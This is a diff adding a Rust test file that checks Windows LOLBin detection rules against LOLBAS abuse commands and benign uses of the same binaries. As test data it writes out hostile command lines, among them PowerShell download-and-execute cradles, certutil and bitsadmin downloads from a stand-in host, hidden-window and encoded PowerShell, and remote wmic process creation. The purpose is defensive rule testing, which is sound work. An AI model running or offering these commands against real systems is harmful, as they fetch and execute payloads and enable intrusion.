@@ -1,0 +1,329 @@
+//! The built-in Windows LOLBin rules (`rules/builtin/windows`) against the LOLBAS project's
+//! documented abuse commands (positives) and ordinary uses of the same binaries
+//! (negatives). LOLBAS is read from `../shared/corpus/lolbas` (GPL-3.0 test data, never
+//! copied into the project); without it the LOLBAS half is skipped, except under CI=true.
+
+use std::path::{Path, PathBuf};
+use watchpost_sigma::{CompiledRuleSet, FlatEvent, RuleSet};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+fn rule(file: &str) -> CompiledRuleSet {
+    let path = repo().join("rules/builtin/windows").join(file);
+    let mut set = RuleSet::default();
+    set.add_yaml(
+        &std::fs::read_to_string(&path).unwrap(),
+        &path.display().to_string(),
+    )
+    .unwrap();
+    let set = set.compile();
+    assert!(set.errors().is_empty(), "{:?}", set.errors());
+    set
+}
+
+/// A Sysmon process creation for `command_line`, its image taken from the first word.
+fn process(command_line: &str, parent: &str) -> FlatEvent {
+    let first = command_line
+        .split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .trim_matches('"');
+    let name = first.rsplit('\\').next().unwrap_or(first);
+    let name = if name.to_ascii_lowercase().ends_with(".exe") {
+        name.to_string()
+    } else {
+        format!("{name}.exe")
+    };
+    let mut event = FlatEvent::windows("Microsoft-Windows-Sysmon/Operational", 1);
+    event.push("Image", &format!(r"C:\Windows\System32\{name}"));
+    event.push("CommandLine", command_line);
+    event.push("ParentImage", parent);
+    event
+}
+
+/// LOLBAS placeholders filled with what an intrusion would use.
+fn fill(command: &str) -> String {
+    let mut out = String::new();
+    let mut rest = command;
+    while let Some(start) = rest.find('{') {
+        out.push_str(&rest[..start]);
+        let Some(end) = rest[start..].find('}') else {
+            break;
+        };
+        let token = &rest[start + 1..start + end];
+        let (kind, ext) = token.split_once(':').unwrap_or((token, ""));
+        let ext = if ext.is_empty() { ".dat" } else { ext };
+        out.push_str(&match kind {
+            "REMOTEURL" => format!("http://203.0.113.50/payload{ext}"),
+            "PATH" | "PATH_ABSOLUTE" => format!(r"C:\Users\Public\Downloads\payload{ext}"),
+            "PATH_SMB" => format!(r"\\203.0.113.50\share\payload{ext}"),
+            "CMD" => "cmd.exe /c whoami".to_string(),
+            "CLSID" | "GUID" => "{00000000-0000-0000-0000-000000000000}".to_string(),
+            _ => "1234".to_string(),
+        });
+        rest = &rest[start + end + 1..];
+    }
+    out.push_str(rest);
+    out
+}
+
+/// `(category, filled command)` for every command of a LOLBAS entry.
+fn lolbas(entry: &str) -> Option<Vec<(String, String)>> {
+    let path = repo().join("../shared/corpus/lolbas/yml").join(entry);
+    let Ok(text) = std::fs::read_to_string(&path) else {
+        assert!(
+            std::env::var("CI").is_err(),
+            "{} is missing under CI",
+            path.display()
+        );
+        eprintln!("skipped LOLBAS cases: {} not found", path.display());
+        return None;
+    };
+    let doc: yaml_serde::Value = yaml_serde::from_str(&text).unwrap();
+    Some(
+        doc["Commands"]
+            .as_sequence()
+            .unwrap()
+            .iter()
+            .map(|c| {
+                (
+                    c["Category"].as_str().unwrap().to_string(),
+                    fill(c["Command"].as_str().unwrap()),
+                )
+            })
+            .collect(),
+    )
+}
+
+struct Case {
+    rule: &'static str,
+    lolbas: &'static str,
+    /// Which LOLBAS commands must match (the rest must not).
+    positive: fn(&str, &str) -> bool,
+    extra_positives: &'static [&'static str],
+    negatives: &'static [(&'static str, &'static str)],
+}
+
+const EXPLORER: &str = r"C:\Windows\explorer.exe";
+
+const CASES: &[Case] = &[
+    Case {
+        rule: "proc_creation_win_powershell_encoded_command.yml",
+        lolbas: "HonorableMentions/PowerShell.yml",
+        positive: |_, cmd| cmd.contains(" -ec "),
+        extra_positives: &[
+            "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+            "pwsh -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8A",
+            "powershell.exe /EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+        ],
+        negatives: &[
+            (
+                r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\backup.ps1",
+                EXPLORER,
+            ),
+            (
+                "powershell -Command \"Get-Service | Where-Object Status -eq Running\"",
+                EXPLORER,
+            ),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_powershell_hidden_window.yml",
+        lolbas: "HonorableMentions/PowerShell.yml",
+        positive: |_, _| false,
+        extra_positives: &[
+            r"powershell.exe -WindowStyle Hidden -File C:\Users\Public\run.ps1",
+            "powershell -w hidden -c \"Start-Sleep 60\"",
+            r"powershell.exe -NoP -win 1 -File C:\ProgramData\x.ps1",
+        ],
+        negatives: &[
+            (
+                r"powershell.exe -WindowStyle Normal -File C:\scripts\report.ps1",
+                EXPLORER,
+            ),
+            ("powershell -Command Write-Host hidden", EXPLORER),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_powershell_download_cradle.yml",
+        lolbas: "HonorableMentions/PowerShell.yml",
+        positive: |_, _| false,
+        extra_positives: &[
+            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\"",
+            r"powershell iwr http://203.0.113.50/a.exe -OutFile C:\Users\Public\a.exe",
+            r"powershell -c (New-Object System.Net.WebClient).DownloadFile('http://203.0.113.50/a','C:\Users\Public\a.exe')",
+            "pwsh -c \"irm https://203.0.113.50/x.ps1 | iex\"",
+        ],
+        negatives: &[
+            (
+                "powershell Invoke-WebRequest https://intranet.example/health -UseBasicParsing",
+                EXPLORER,
+            ),
+            (r"powershell Get-Content C:\logs\app.log -Tail 50", EXPLORER),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_certutil_download_decode.yml",
+        lolbas: "OSBinaries/Certutil.yml",
+        positive: |cat, _| matches!(cat, "Download" | "ADS" | "Decode"),
+        extra_positives: &["certutil /urlcache /split /f http://203.0.113.50/a.exe a.exe"],
+        negatives: &[
+            (r"certutil -hashfile C:\images\install.iso SHA256", EXPLORER),
+            ("certutil -store My", EXPLORER),
+            ("certutil -viewstore Root", EXPLORER),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_regsvr32_scriptlet.yml",
+        lolbas: "OSBinaries/Regsvr32.yml",
+        positive: |_, cmd| cmd.contains("scrobj"),
+        extra_positives: &[],
+        negatives: &[(
+            r"regsvr32.exe /s C:\Program Files\Vendor\plugin.dll",
+            EXPLORER,
+        )],
+    },
+    Case {
+        rule: "proc_creation_win_mshta_script_or_remote.yml",
+        lolbas: "OSBinaries/Mshta.yml",
+        positive: |_, _| true,
+        extra_positives: &[],
+        negatives: &[(
+            r#"mshta.exe "C:\Program Files\Vendor\Tool\app.hta""#,
+            EXPLORER,
+        )],
+    },
+    Case {
+        rule: "proc_creation_win_rundll32_javascript.yml",
+        lolbas: "OSBinaries/Rundll32.yml",
+        positive: |_, cmd| cmd.contains("javascript:"),
+        extra_positives: &[],
+        negatives: &[
+            ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", EXPLORER),
+            (
+                r"rundll32.exe printui.dll,PrintUIEntry /in /n \\printsrv\floor2",
+                EXPLORER,
+            ),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_wmic_remote_process_create.yml",
+        lolbas: "OSBinaries/Wmic.yml",
+        positive: |_, cmd| cmd.contains("/node:") && cmd.contains("call create"),
+        extra_positives: &[
+            "wmic /node:10.1.2.3 /user:corp\\admin process call create \"cmd /c whoami\"",
+        ],
+        negatives: &[
+            (
+                "wmic /node:localhost process call create \"notepad.exe\"",
+                EXPLORER,
+            ),
+            ("wmic os get caption,version", EXPLORER),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_bitsadmin_transfer_notify.yml",
+        lolbas: "OSBinaries/Bitsadmin.yml",
+        positive: |cat, _| cat != "Copy",
+        extra_positives: &[
+            r"bitsadmin /transfer job /download /priority high http://203.0.113.50/a.exe C:\Users\Public\a.exe",
+        ],
+        negatives: &[("bitsadmin /list /allusers /verbose", EXPLORER)],
+    },
+    Case {
+        rule: "proc_creation_win_msbuild_inline_task.yml",
+        lolbas: "OSBinaries/Msbuild.yml",
+        positive: |_, _| true,
+        extra_positives: &[],
+        negatives: &[
+            (
+                r"MSBuild.exe C:\src\product\product.sln /p:Configuration=Release",
+                EXPLORER,
+            ),
+            (
+                r"MSBuild.exe C:\Users\dev\AppData\Local\Temp\restore.proj",
+                r"C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv.exe",
+            ),
+        ],
+    },
+    Case {
+        rule: "proc_creation_win_installutil_execution.yml",
+        lolbas: "OSBinaries/Installutil.yml",
+        positive: |_, _| true,
+        extra_positives: &[],
+        negatives: &[
+            (
+                r#"InstallUtil.exe "C:\Program Files\Vendor\Agent\AgentService.exe""#,
+                EXPLORER,
+            ),
+            (
+                r#"InstallUtil.exe /u "C:\Program Files\Vendor\Agent\AgentService.exe""#,
+                EXPLORER,
+            ),
+        ],
+    },
+];
+
+#[test]
+fn every_builtin_rule_matches_its_abuse_and_not_ordinary_use() {
+    let mut failures = Vec::new();
+    let (mut positives, mut negatives) = (0, 0);
+    for case in CASES {
+        let set = rule(case.rule);
+        let mut check = |cmd: &str, parent: &str, expected: bool| {
+            let matched = !set.matches(&process(cmd, parent)).is_empty();
+            if expected {
+                positives += 1
+            } else {
+                negatives += 1
+            }
+            if matched != expected {
+                failures.push(format!(
+                    "{}: expected {} for {cmd}",
+                    case.rule,
+                    if expected { "a match" } else { "no match" }
+                ));
+            }
+        };
+        for cmd in case.extra_positives {
+            check(cmd, EXPLORER, true);
+        }
+        for (cmd, parent) in case.negatives {
+            check(cmd, parent, false);
+        }
+        if let Some(commands) = lolbas(case.lolbas) {
+            for (category, cmd) in commands {
+                check(&cmd, EXPLORER, (case.positive)(&category, &cmd));
+            }
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases wrong:\n{}",
+        failures.len(),
+        positives + negatives,
+        failures.join("\n")
+    );
+    assert!(
+        positives >= 30 && negatives >= 20,
+        "{positives} positive and {negatives} negative cases"
+    );
+}
+
+#[test]
+fn every_builtin_rule_is_attack_tagged_and_loads() {
+    let mut set = RuleSet::default();
+    set.load_dir(&repo().join("rules/builtin"));
+    let set = set.compile();
+    assert!(set.errors().is_empty(), "{:?}", set.errors());
+    assert_eq!(set.rules().len(), CASES.len());
+    for r in set.rules() {
+        assert!(
+            !r.attack.techniques.is_empty() && !r.attack.tactics.is_empty(),
+            "{} lacks ATT&CK tags",
+            r.path
+        );
+    }
+}
